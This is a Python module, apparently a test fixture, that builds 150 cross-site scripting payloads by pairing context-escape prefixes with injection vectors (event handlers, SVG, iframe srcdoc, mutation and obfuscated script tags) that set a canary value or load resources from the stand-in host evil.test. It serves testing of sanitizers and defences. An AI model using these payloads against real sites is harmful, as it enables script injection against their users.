"""Texts that want to be run: each reports its number to ``window.__x``, or asks evil.test for something."""

import itertools

ELSEWHERE = "//evil.test"
# Out of whatever they are written into.
OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "-->", "</script>", "</style>", "]]>", '\\"}]')
VECTORS = (
    "<script>window.__x={n}</script>",
    "<script src={e}/{n}.js></script>",
    "<img src=x onerror=window.__x={n}>",
    "<img src={e}/{n}.gif>",
    "<svg onload=window.__x={n}>",
    "<svg><animate onbegin=window.__x={n} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__x={n}</script>'></iframe>",
    "<a href='javascript:window.__x={n}' autofocus onfocus=window.__x={n}>x</a>",
    "<input autofocus onfocus=window.__x={n}>",
    "<base href={e}/{n}/>",
    "<link rel=stylesheet href={e}/{n}.css>",
    "<style>@import '{e}/{n}.css'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__x={n}></style></mglyph>",
    "<scr\u200bipt>&#x3c;img src=x onerror=window.__x={n}&#x3e;${{window.__x={n}}}{{{{7*7}}}}",
    "\u2028</script ><script\u2029>window.__x={n}//<!--",
)


def payloads() -> list[str]:
    """150 of them, each way of running out of each place."""
    pairs = itertools.product(OPENINGS, VECTORS)
    return [
        opening + vector.format(n=number, e=ELSEWHERE)
        for number, (opening, vector) in enumerate(pairs, start=1)
    ]
